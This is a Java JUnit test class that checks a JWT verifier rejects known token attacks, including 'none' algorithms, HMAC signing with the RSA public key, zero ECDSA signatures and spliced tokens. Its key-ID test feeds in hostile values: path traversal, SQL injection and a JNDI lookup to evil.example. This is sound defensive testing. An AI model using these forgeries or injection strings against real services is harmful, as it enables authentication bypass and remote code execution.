package dev.gatehouse.internal.jwt;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.testing.JwtSigner;
import dev.gatehouse.testing.Secrets;
import dev.gatehouse.testing.TestJwt;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Attacks on JWTs that have worked elsewhere (RFC 8725 §2). */
class JwtAttackTest {

  private static final JwtSigner RSA = JwtSigner.of("RS256", "rsa");
  private static final JwtSigner EC = JwtSigner.of("ES256", "ec256");
  private static final JwtSigner ED = JwtSigner.of("EdDSA", "ed");

  private static JwtFixture fixture;
  private static JwtFixture other;

  @BeforeAll
  static void start() throws IOException {
    fixture = new JwtFixture(RSA, EC, ED);
    other = new JwtFixture(JwtSigner.of("RS256", "other"), JwtSigner.of("ES256", "ec256-other"));
    fixture.verify(fixture.accessToken(RSA).signed()); // starts its threads before the first test
    fixture.verify(fixture.accessToken(JwtSigner.of("ES256", "unknown")).signed());
    other.verify(other.accessToken(JwtSigner.of("RS256", "other")).signed());
    other.verify(other.accessToken(RSA).signed());
  }

  @AfterAll
  static void stop() {
    fixture.close();
    other.close();
  }

  private static String verify(String token) {
    return JwtFixture.word(fixture.verify(token));
  }

  private static String withSignature(TestJwt jwt, byte[] signature) {
    String signed = jwt.signed();
    return signed.substring(0, signed.lastIndexOf('.') + 1) + JwtSigner.base64(signature);
  }

  @Test
  void theTestsBeginWithAGoodToken() {
    assertThat(verify(fixture.accessToken(RSA).signed())).isEqualTo("active");
    assertThat(verify(fixture.accessToken(EC).signed())).isEqualTo("active");
    assertThat(verify(fixture.accessToken(ED).signed())).isEqualTo("active");
  }

  @ParameterizedTest
  @ValueSource(strings = {"none", "None", "nOnE", "NONE", ""})
  void unsecured(String algorithm) {
    TestJwt jwt = fixture.accessToken(RSA).header("alg", algorithm);
    String input = jwt.signed().substring(0, jwt.signed().lastIndexOf('.'));

    assertThat(verify(input + ".")).isEqualTo("jwt");
    assertThat(verify(input + ".AAAA")).isEqualTo("jwt");
    assertThat(verify(input)).isEqualTo("jwt");
  }

  /** RFC 8725 §2.1: the public key as the secret of HMAC, in each form that it is published in. */
  @ParameterizedTest
  @ValueSource(strings = {"HS256", "HS384", "HS512"})
  void thePublicKeyAsASecret(String algorithm) throws Exception {
    byte[] der = RSA.publicKey().getEncoded();
    String pem =
        "-----BEGIN PUBLIC KEY-----\n"
            + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der)
            + "\n-----END PUBLIC KEY-----\n";
    for (byte[] secret : new byte[][] {der, pem.getBytes(StandardCharsets.US_ASCII)}) {
      TestJwt jwt = fixture.accessToken(RSA).header("alg", algorithm);
      String input = jwt.signed().substring(0, jwt.signed().lastIndexOf('.'));
      Mac mac = Mac.getInstance("HmacSHA" + algorithm.substring(2));
      mac.init(new SecretKeySpec(secret, "HMAC"));

      assertThat(
              verify(
                  input
                      + "."
                      + JwtSigner.base64(mac.doFinal(input.getBytes(StandardCharsets.US_ASCII)))))
          .isEqualTo("jwt");
    }
  }

  /** CVE-2022-21449: r and s equal to zero, or to the order of the curve. */
  @Test
  void psychicSignatures() {
    byte[] order =
        Arrays.copyOfRange(
            ((java.security.interfaces.ECPublicKey) EC.publicKey())
                .getParams()
                .getOrder()
                .toByteArray(),
            1,
            33);
    byte[] orders = new byte[64];
    System.arraycopy(order, 0, orders, 0, 32);
    System.arraycopy(order, 0, orders, 32, 32);
    byte[] onlyR = new byte[64];
    onlyR[31] = 1;
    byte[] onlyS = new byte[64];
    onlyS[63] = 1;
    for (byte[] signature :
        new byte[][] {
          new byte[64], orders, onlyR, onlyS, new byte[1], new byte[63], new byte[65], new byte[72]
        }) {
      assertThat(verify(withSignature(fixture.accessToken(EC), signature))).isEqualTo("signature");
    }
    assertThat(verify(withSignature(fixture.accessToken(ED), new byte[64]))).isEqualTo("signature");
    assertThat(verify(withSignature(fixture.accessToken(RSA), new byte[256])))
        .isEqualTo("signature");
    byte[] one = new byte[256];
    one[255] = 1;
    assertThat(verify(withSignature(fixture.accessToken(RSA), one))).isEqualTo("signature");
  }

  /** RFC 7518 §3.4: r and s in fixed length, not DER. */
  @Test
  void aSignatureInDer() throws Exception {
    TestJwt jwt = fixture.accessToken(EC);
    String input = jwt.signed().substring(0, jwt.signed().lastIndexOf('.'));
    java.security.Signature der = java.security.Signature.getInstance("SHA256withECDSA");
    der.initSign(EC.privateKey());
    der.update(input.getBytes(StandardCharsets.US_ASCII));

    assertThat(verify(input + "." + JwtSigner.base64(der.sign()))).isEqualTo("signature");
  }

  /** RFC 8725 §2.8: the token of one server, or one that names it, at another. */
  @Test
  void keysOfAnotherServer() {
    JwtSigner foreign = JwtSigner.of("RS256", "other");

    assertThat(verify(fixture.accessToken(foreign).signed())).isEqualTo("signature");
    assertThat(verify(fixture.accessToken(foreign).header("kid", "rsa").signed()))
        .isEqualTo("signature");
    assertThat(verify(fixture.accessToken(foreign).withoutHeader("kid").signed()))
        .isEqualTo("signature");
    assertThat(verify(other.accessToken(foreign).signed())).isEqualTo("issuer");
    assertThat(verify(other.accessToken(RSA).signed())).isEqualTo("issuer");
    assertThat(JwtFixture.word(other.verify(other.accessToken(RSA).signed())))
        .isEqualTo("signature");
    assertThat(JwtFixture.word(other.verify(other.accessToken(foreign).signed())))
        .isEqualTo("active");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../../dev/null",
        "/dev/null",
        "x' UNION SELECT 'key' --",
        "https://evil.example/key",
        "RSA",
        "rsa ",
        "rsa\u0000",
        "",
        "*",
        "${jndi:ldap://evil.example}"
      })
  void aKeyIdIsOnlyCompared(String keyId) {
    assertThat(verify(fixture.accessToken(RSA).header("kid", keyId).signed()))
        .isEqualTo("signature");
  }

  @Test
  void aKeyThatTheTokenBrings() {
    JwtSigner own = JwtSigner.of("ES256", "own");
    String jwk = "\"jwk\":" + own.jwk();

    assertThat(verify(fixture.accessToken(own).change(jwk, "").signed())).isEqualTo("jwt");
    assertThat(verify(fixture.accessToken(own).change(jwk + ",\"kid\":\"ec256\"", "").signed()))
        .isEqualTo("jwt");
  }

  @Test
  void partsOfTwoTokens() {
    String[] first = fixture.accessToken(RSA).signed().split("\\.", -1);
    String[] second = fixture.accessToken(RSA).claim("scope", "admin").signed().split("\\.", -1);

    assertThat(verify(first[0] + "." + second[1] + "." + first[2])).isEqualTo("signature");
    assertThat(verify(first[1] + "." + first[0] + "." + first[2])).isEqualTo("jwt");
    assertThat(verify(first[0] + "." + first[1] + "." + second[2])).isEqualTo("signature");
    assertThat(verify(first[0] + "." + first[1] + "." + first[1])).isEqualTo("signature");
  }

  /** One JWT, one text: otherwise a revoked token would be accepted in another form. */
  @ParameterizedTest
  @ValueSource(strings = {"=", "==", ".", "..", ".e30", "A", "AA", "AAAA", "%3D", " ", "\n"})
  void anAppendedText(String appended) {
    assertThat(verify(fixture.accessToken(RSA).signed() + appended)).isIn("jwt", "signature");
    assertThat(verify(fixture.accessToken(EC).signed() + appended)).isIn("jwt", "signature");
  }

  @Test
  void unusedBits() {
    String token = fixture.accessToken(RSA).signed(); // 256 bytes: four unused bits
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    int last = alphabet.indexOf(token.charAt(token.length() - 1));
    assertThat(last % 16).isZero();
    for (int bits = 1; bits < 16; bits++) {
      assertThat(verify(token.substring(0, token.length() - 1) + alphabet.charAt(last + bits)))
          .isEqualTo("jwt");
    }
  }

  @Test
  void theOtherAlphabetOfBase64() {
    String token = fixture.accessToken(RSA).signed();
    assertThat(verify(token.replace('-', '+').replace('_', '/')))
        .isEqualTo(token.matches(".*[-_].*") ? "jwt" : "active");
  }

  /** Parsers differ in which of two equal members counts. */
  @ParameterizedTest
  @ValueSource(strings = {"alg", "kid", "typ"})
  void aDuplicateInTheHeader(String name) {
    TestJwt jwt = fixture.accessToken(RSA);
    String header = jwt.headerJson().replaceFirst("\\{", "{\"" + name + "\":\"none\",");

    assertThat(verify(RSA.sign(header, jwt.payloadJson()))).isEqualTo("jwt");
  }

  @ParameterizedTest
  @ValueSource(strings = {"iss", "exp", "sub", "scope", "aud"})
  void aDuplicateClaim(String name) {
    TestJwt jwt = fixture.accessToken(RSA);
    String payload = jwt.payloadJson().replaceFirst("\\{", "{\"" + name + "\":\"x\",");

    assertThat(verify(RSA.sign(jwt.headerJson(), payload))).isEqualTo("jwt");
  }

  @ParameterizedTest
  @ValueSource(strings = {"[]", "1", "null", "\"a\"", "", "{", "{}x", "{} {}", "{a:1}", "{'a':1}"})
  void aPartThatIsNoStrictJsonObject(String json) {
    TestJwt jwt = fixture.accessToken(RSA);

    assertThat(verify(RSA.sign(json, jwt.payloadJson()))).isEqualTo("jwt");
    assertThat(verify(RSA.sign(jwt.headerJson(), json))).isEqualTo("jwt");
  }

  @Test
  void aPayloadThatIsAJwt() {
    String nested = fixture.accessToken(RSA).signed();
    String header = fixture.accessToken(RSA).header("cty", "JWT").headerJson();

    assertThat(verify(RSA.sign(header, nested))).isEqualTo("jwt");
    assertThat(verify(RSA.sign(fixture.accessToken(RSA).headerJson(), nested))).isEqualTo("jwt");
  }

  @Test
  void overlongUtf8() {
    byte[] overlong = {'{', '"', 'a', '"', ':', '"', (byte) 0xc0, (byte) 0xae, '"', '}'};
    String input = JwtSigner.base64(RSA_HEADER) + "." + JwtSigner.base64(overlong);

    assertThat(verify(input + "." + JwtSigner.base64(RSA.signature(input)))).isEqualTo("jwt");
  }

  private static final String RSA_HEADER = "{\"alg\":\"RS256\",\"kid\":\"rsa\"}";

  @Test
  void aHugeHeaderOrSignature() {
    String filler = "x".repeat(10_000);

    assertThat(verify(fixture.accessToken(RSA).header("x", filler).signed())).isEqualTo("jwt");
    assertThat(verify(withSignature(fixture.accessToken(RSA), new byte[2000]))).isEqualTo("jwt");
    assertThat(verify(fixture.accessToken(RSA).claim("x", filler).signed())).isEqualTo("active");
  }

  @Test
  void deepNesting() {
    String deep = "[".repeat(5000) + "]".repeat(5000);
    TestJwt jwt = fixture.accessToken(RSA);

    assertThat(
            verify(
                RSA.sign(
                    jwt.headerJson(),
                    jwt.payloadJson().replaceFirst("\\{", "{\"x\":" + deep + ","))))
        .isEqualTo("jwt");
  }

  /** RFC 8725 §3.5: what is signed with a key that is too short proves nothing. */
  @Test
  void aShortKey() throws Exception {
    JwtSigner weak = JwtSigner.ofSize(1024, "RS256", "weak");
    try (JwtFixture weakServer = new JwtFixture(RSA, weak)) {
      assertThat(JwtFixture.word(weakServer.verify(weakServer.accessToken(weak).signed())))
          .isEqualTo("signature");
    }
  }

  @Test
  void textsThatAreNoJwt() {
    for (String token :
        new String[] {".", "..", "...", "a", "a.b", "a.b.c", "e30.e30.", "e30..", "....."}) {
      assertThat(verify(token)).as(token).isEqualTo("jwt");
    }
    assertThat(verify(Secrets.token())).isEqualTo("jwt");
  }
}
